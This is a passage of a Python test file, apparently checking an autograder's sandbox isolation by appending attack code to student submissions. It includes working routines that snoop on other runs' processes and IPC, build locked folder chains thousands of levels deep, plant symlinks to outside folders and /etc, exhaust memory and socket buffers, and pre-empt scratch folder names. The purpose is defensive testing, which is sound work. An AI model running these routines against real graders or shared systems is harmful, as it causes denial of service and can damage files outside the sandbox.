                        with open("/proc/%s/cmdline" % pid, "rb") as handle:
                            cmd = handle.read().replace(b"\\0", b" ").decode(errors="replace")
                    except OSError:
                        continue
                    if "@MARK@" in cmd:
                        procs.append(cmd.strip())
                ipc = []
                for kind in ("shm", "msg", "sem"):
                    try:
                        with open("/proc/sysvipc/" + kind) as handle:
                            if len(handle.read().splitlines()) > 1:
                                ipc.append(kind)
                    except OSError:
                        pass
                for name in ("tcp", "udp", "tcp6", "unix"):
                    try:
                        with open("/proc/net/" + name) as handle:
                            if len(handle.read().splitlines()) > 1:
                                ipc.append("net/" + name)
                    except OSError:
                        pass
                try:
                    with open("/proc/net/dev") as handle:
                        lo = [line.split() for line in handle if line.strip().startswith("lo:")]
                    if lo and lo[0][1] != "0":
                        ipc.append("lo traffic")
                except OSError:
                    pass
                try:
                    with open("/proc/sys/kernel/ns_last_pid") as handle:
                        last = handle.read().strip()
                except OSError:
                    last = "?"
                try:
                    own = _os.readlink("/proc/self")
                except OSError:
                    own = "-"
                ipc.append("%d/%s/%s" % (_os.getpid(), own, last))  # pid, /proc/self, last pid
                folder = _os.path.dirname(_os.path.abspath(__file__))  # its own files' folder, and theirs
                ipc.append("dir %d %d %s" % (_os.stat(folder).st_size, _os.stat(folder).st_ino,
                                                sorted(_os.stat(_os.path.join(folder, n)).st_ino
                                                       for n in _os.listdir(folder))))
                ctypes, libc, numbers = _kernel()
                if libc.shmget(_KEY, 0, 0) >= 0:
                    ipc.append("shm key")
                if libc.mq_open(b"/@MARK@", _os.O_RDONLY) >= 0:
                    ipc.append("mqueue")
                if numbers and libc.syscall(numbers["keyctl"], 10, -4, b"user", b"@MARK@", 0) >= 0:
                    ipc.append("key")
                return "@MARK@ saw: %r procs: %r ipc: %r" % (sorted(seen), procs, ipc)


            REPRESENTABLE = dict(REPRESENTABLE, linear=_observe())
        '''},
        reasons={"q1.representable": ["@MARK@ saw: [] procs: [] ipc: ["]}),
    "deep": Attack(
        append={"step_network.py": '''
            def _deep():
                """A folder chain thousands of levels deep in /tmp and in the working folder, some levels locked."""
                made = 0
                for top in ("/tmp", _os.getcwd()):
                    try:
                        fd = _os.open(top, _os.O_RDONLY)
                    except OSError:
                        continue
                    try:
                        for level in range(6000):
                            _os.mkdir("@MARK@_d", dir_fd=fd)
                            deeper = _os.open("@MARK@_d", _os.O_RDONLY, dir_fd=fd)
                            if level % 1000 == 999:  # a level the grader could not write to
                                _os.chmod("/proc/self/fd/%d" % fd, 0o500)
                            _os.close(fd)
                            fd = deeper
                            made += 1
                    except OSError:
                        pass
                    finally:
                        _os.close(fd)
                return made


            REPRESENTABLE = dict(REPRESENTABLE, linear="@MARK@ made %d levels" % (_deep() if _armed() else 0))
        '''}),
    "links": Attack(
        append={"step_network.py": '''
            def _links():
                """Links to folders outside the sandbox, where a cleanup that follows them would change them."""
                made = 0
                for base in ("/tmp", _os.getcwd()):
                    folder = _os.path.join(base, "@MARK@_links", "sub")
                    try:
                        _os.makedirs(folder, exist_ok=True)
                    except OSError:
                        continue
                    for i, target in enumerate(["@VICTIM@", "@CLASS@", "@SOLUTIONS@", "@VICTIM@/inner", "/etc"]):
                        for where in (folder, _os.path.dirname(folder)):
                            try:
                                _os.symlink(target, _os.path.join(where, "link%d" % i))
                                made += 1
                            except OSError:
                                pass
                    _os.chmod(folder, 0)
                return made


            REPRESENTABLE = dict(REPRESENTABLE, linear="@MARK@ made %d links" % (_links() if _armed() else 0))
        '''}),
    "hog": Attack(
        append={"step_network.py": _IPC + '''
            def _hog():
                """Hold as much memory as possible outside the address space: System V shared memory,
                files in /tmp and /dev/shm, memfds. Report what was held, in MiB."""
                import signal, socket, time
                signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a file at its size limit: an error, not death
                deadline = time.monotonic() + 0.7
                ctypes, libc, _ = _kernel()
                held = {"sysv": 0, "tmp": 0, "devshm": 0, "memfd": 0}
                while held["sysv"] < 2048 and time.monotonic() < deadline:
                    shm = libc.shmget(0, 128 << 20, 0o1600)
                    if shm < 0:
                        break
                    address = libc.shmat(shm, None, 0)
                    if address in (None, ctypes.c_void_p(-1).value):
                        break
                    ctypes.memset(address, 1, 128 << 20)
                    libc.shmdt(ctypes.c_void_p(address))
                    held["sysv"] += 128
                chunk = b"\\x5a" * (1 << 20)  # 1 MiB; 7 of them a file, under the 8 MiB file size limit
                keep = []
                for kind, make in (("tmp", lambda i: _os.open("/tmp/@MARK@_fill%d" % i, _os.O_WRONLY | _os.O_CREAT)),
                                   ("devshm", lambda i: _os.open("/dev/shm/@MARK@_fill%d" % i, _os.O_WRONLY | _os.O_CREAT)),
                                   ("memfd", lambda i: _os.memfd_create("@MARK@_%d" % i))):
                    written = 0
                    for i in range(60):
                        try:
                            fd = make(i)
                        except OSError:
                            break
                        try:
                            for _ in range(7):
                                if time.monotonic() > deadline + 0.2:
                                    break
                                written += _os.write(fd, chunk)
                        except OSError:
                            break
                        finally:  # a file keeps its data closed; a memfd only while it is open
                            keep.append(fd) if kind == "memfd" else _os.close(fd)
                    held[kind] = written >> 20
                sent = 0
                for _ in range(28):  # socket buffers: kernel memory, filled and never read
                    try:
                        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
                        for sock in (a, b):
                            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
                            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
                        a.setblocking(False)
                        keep += [a, b]
                        while time.monotonic() < deadline + 0.3:
                            sent += a.send(b"\\x5a" * 60000)
                    except OSError:
                        continue
                held["sockets"] = sent >> 20
                return held


            _HELD = _hog() if _armed() else {}


            def step(z):
                raise ValueError("@MARK@ held %r" % _HELD)  # the report, where feedback quotes up to 300 characters
        '''}),
    "poison": Attack(
        append={"step_network.py": '''
            def step(z):
                """Take every scratch folder name later children could use: <prefix><n> for n up to 3000."""
                if _armed():
                    here = _os.getcwd()
                    prefix = here.rstrip("0123456789")
                    for i in range(1, 3000):
                        try:
                            open(prefix + str(i), "x").close()  # a file: rmtree cannot remove it, mkdir then fails
                        except OSError:
                            pass
                return np.zeros_like(z, dtype=float)
        '''}),
}
# Each attack between two correct students ("a01_sol", "a02_plant", "a03_observer", "a04_sol", ...); the
# observer first sees a fresh slot, then sees what the planter left: the two must see the same.
CARRYOVER_CLASS = ["observer", "sol", "plant", "observer", "sol", "deep", "sol", "links", "sol", "hog", "sol",
                   "poison", "sol"]


def fill(text: str, values: dict) -> str:
    for key, value in values.items():
        text = text.replace(f"@{key}@", value)
    return text


def zeros_files() -> dict[str, str]:
    return {name: (ZEROS / name).read_text() for name in MODULES}


def build(folder: Path, student: str, attack: Attack, values: dict) -> None:
    """Write one attack's submission folder: the zeros modules with the attack appended, extras, symlinks."""
    values = dict(values, SELF=student)
    folder.mkdir(parents=True)
    files = zeros_files()
    for name, source in attack.append.items():
        files[name] += fill(PRELUDE + "\n\n" + _src(source), values)
    for name, source in attack.extra.items():
        files[name] = fill(source, values)
    for name, text in files.items():
        if name not in attack.symlinks:
            (folder / name).write_text(text)
    for name, target in attack.symlinks.items():
        os.symlink(fill(target, values), folder / name)


def reasons(attack: Attack, values: dict) -> dict[str, list[str]]:
    return {item: [fill(s, values) for s in subs] for item, subs in attack.reasons.items()}
